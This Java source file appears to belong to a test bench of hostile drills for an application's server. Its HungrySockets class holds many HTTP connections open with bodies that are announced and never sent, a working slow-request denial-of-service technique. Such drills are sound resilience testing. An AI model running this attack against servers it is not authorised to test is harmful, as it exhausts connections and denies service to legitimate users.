package no.abakus.bench.drills.hostile;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import java.util.Random;

/**
 * Keeps up to a hundred connections open. Each of them announces a body and then sends nothing, or only a byte now and
 * then.
 */
final class HungrySockets implements Attack {

    private static final int MOST = 100;
    private static final List<String> PATHS = List.of(
            "/abakus/api/tasks",
            "/abakus/api/health",
            "/abakus/api/tasks/diagnostics.add/apply-async",
            "/registrations/api/events",
            "/");

    private final RawHttp http;
    private final String login;
    private final Deque<Socket> open = new ArrayDeque<>();

    /** Creates an attack in which some sockets send this operator's login and the others send no login. */
    HungrySockets(URI server, String user, String password) {
        this.http = new RawHttp(server);
        this.login = RawHttp.authorization(user, password);
    }

    @Override
    public String name() {
        return "sockets that announce a body";
    }

    @Override
    public long pauseMillis() {
        return 50;
    }

    @Override
    public void strike(Random random) throws IOException {
        if (open.size() == MOST || (!open.isEmpty() && random.nextInt(4) == 0)) {
            drip(open.removeFirst(), random);
            return;
        }
        Socket socket = http.connect();
        String head = "POST " + PATHS.get(random.nextInt(PATHS.size())) + " HTTP/1.1\r\nHost: localhost\r\n"
                + (random.nextBoolean() ? login : "") + "Content-Type: application/json\r\n"
                + (random.nextBoolean()
                        ? "Content-Length: 100000\r\n\r\n{"
                        : "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n");
        socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
        open.addLast(socket);
    }

    private void drip(Socket socket, Random random) throws IOException {
        if (random.nextInt(3) > 0) {
            socket.close();
            return;
        }
        socket.getOutputStream().write(' ');
        open.addLast(socket);
    }

    @Override
    public void close() {
        open.forEach(HungrySockets::drop);
        open.clear();
    }

    private static void drop(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // The connection is gone either way.
            return;
        }
    }
}
